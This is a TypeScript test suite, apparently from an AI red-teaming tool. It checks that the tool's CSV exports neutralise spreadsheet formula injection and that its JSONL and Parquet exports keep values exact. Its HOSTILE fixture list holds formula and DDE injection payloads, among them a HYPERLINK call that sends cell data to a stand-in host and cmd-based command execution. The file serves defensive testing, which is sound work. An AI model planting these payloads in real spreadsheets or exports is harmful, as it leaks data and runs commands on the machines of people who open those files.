import { after, before, describe, it } from 'node:test';
import assert from 'node:assert/strict';
import fs from 'node:fs';
import path from 'node:path';
import { parse } from 'csv-parse/sync';
import { DaemonHarness, runToEnd } from '../helpers/daemonHarness';
import type { DaemonConnection } from '../../client/daemonConnection';
import { toCsv, toJsonLines } from '../../extension/panels/resultsExport';
import { resultItem } from '../editor/unit/fixtures';

/**
 * A model's answer (or a prompt from a shared dataset) that starts with `=`, `+`, `-`, `@`, a tab or a carriage
 * return is a formula to Excel, LibreOffice and Google Sheets: `=HYPERLINK(...)` phones home with a click, DDE
 * payloads run commands. OWASP's rule for CSV: such a cell gets a leading `'`, which spreadsheets show as text.
 * JSONL and Parquet are read by programs, not spreadsheets, and stay exact.
 */
const HOSTILE = [
  '=HYPERLINK("https://evil.test/?"&A1,"click me")',
  "+cmd|' /C calc'!A0",
  '-2+3',
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
];
const HARMLESS = ['plain prompt', "'already quoted", ' =leading space is text'];

/** What a spreadsheet would see as a formula: the first character of a cell. */
const FORMULA_START = /^[=+\-@\t\r]/;

function csvCells(text: string): string[][] {
  return parse(text, { relax_column_count: false }) as string[][];
}

describe('CSV exports neutralise spreadsheet formulas; JSONL and Parquet stay exact', () => {
  describe("the extension's CSV (results panel, Export CSV)", () => {
    it("prefixes every cell that starts like a formula with ', and leaves the others alone", () => {
      const items = [...HOSTILE, ...HARMLESS].map((value, index) =>
        resultItem(value, {
          prompt_index: index,
          request: { original_value: value, converted_value: value, converters: [] },
          response: { converted_value: value, response_error: 'none' },
          outcome_reason: value,
          label: { outcome: 'failure', note: value, reviewer: 'tam', labelled_at: 'now', score_id: 'h1' },
          scores: [],
        }),
      );
      const rows = csvCells(toCsv(items)).slice(1);
      assert.equal(rows.length, items.length);
      for (const [index, row] of rows.entries()) {
        const value = [...HOSTILE, ...HARMLESS][index];
        for (const cell of row) assert.doesNotMatch(cell, FORMULA_START, `a formula cell in row ${index}: ${cell}`);
        // The prompt, converted prompt, response, reason and note columns hold the value, prefixed or not.
        const expected = FORMULA_START.test(value) ? `'${value}` : value;
        for (const column of [5, 7, 9, 10, 12]) assert.equal(row[column], expected, `column ${column}`);
      }
      const lines = toJsonLines(items).trimEnd().split('\n');
      assert.deepEqual(
        lines.map((line) => (JSON.parse(line) as { request: { original_value: string } }).request.original_value),
        [...HOSTILE, ...HARMLESS],
        'JSON Lines keeps the values exact',
      );
    });
  });

  describe("the daemon's results/export (DuckDB COPY)", () => {
    let daemon: DaemonHarness;
    let connection: DaemonConnection;
    let executionId: string;

    before(async () => {
      daemon = await DaemonHarness.start();
      connection = await daemon.connect('sheets');
      // The echo target answers with the prompt: the hostile text is in prompt, converted prompt and response.
      const orchestrator = await connection.request('orchestrators/create', {
        name: 'formulas',
        orchestrator_type: 'prompt_sending',
        parameters: { objective_target: { type: 'echo' } },
      });
      const execution = await runToEnd(connection, orchestrator.id, [...HOSTILE, ...HARMLESS]);
      assert.equal(execution.status, 'completed', execution.error ?? '');
      executionId = execution.execution_id;
    });
    after(async () => {
      connection?.close();
      await daemon?.stop();
    });

    const exported = async (format: 'csv' | 'jsonl' | 'parquet'): Promise<string> => {
      const file = path.join(daemon.root, `formulas.${format}`);
      await connection.request('results/export', { execution_id: executionId, format, path: file });
      return file;
    };

    it("writes no CSV cell that starts like a formula: those get a leading '", async () => {
      const [header, ...rows] = csvCells(fs.readFileSync(await exported('csv'), 'utf8'));
      assert.equal(rows.length, HOSTILE.length + HARMLESS.length);
      for (const row of rows)
        for (const [column, cell] of row.entries())
          assert.doesNotMatch(cell, FORMULA_START, `a formula cell in column ${header[column]}: ${cell}`);
      const column = (name: string) => header.indexOf(name);
      const byIndex = new Map(rows.map((row) => [Number(row[column('prompt_index')]), row]));
      for (const [index, value] of [...HOSTILE, ...HARMLESS].entries()) {
        const expected = FORMULA_START.test(value) ? `'${value}` : value;
        for (const name of ['original_value', 'converted_value', 'response'])
          assert.equal(byIndex.get(index)?.[column(name)], expected, `${name} of prompt ${index}`);
      }
    });

    it('keeps JSONL exact', async () => {
      const rows = fs
        .readFileSync(await exported('jsonl'), 'utf8')
        .trimEnd()
        .split('\n')
        .map((line) => JSON.parse(line) as { prompt_index: number; original_value: string; response: string });
      rows.sort((a, b) => a.prompt_index - b.prompt_index);
      assert.deepEqual(
        rows.map((row) => row.original_value),
        [...HOSTILE, ...HARMLESS],
      );
      assert.deepEqual(
        rows.map((row) => row.response),
        [...HOSTILE, ...HARMLESS],
      );
    });

    it('keeps Parquet exact', async () => {
      const file = await exported('parquet');
      const { DuckDBInstance } = await import('@duckdb/node-api');
      const instance = await DuckDBInstance.create(':memory:');
      try {
        const reader = await (
          await instance.connect()
        ).runAndReadAll(
          `SELECT original_value, response FROM read_parquet('${file.replace(/'/g, "''")}') ORDER BY prompt_index`,
        );
        assert.deepEqual(
          reader.getRowObjectsJson().map((row) => [row.original_value, row.response]),
          [...HOSTILE, ...HARMLESS].map((value) => [value, value]),
        );
      } finally {
        instance.closeSync();
      }
    });
  });
});
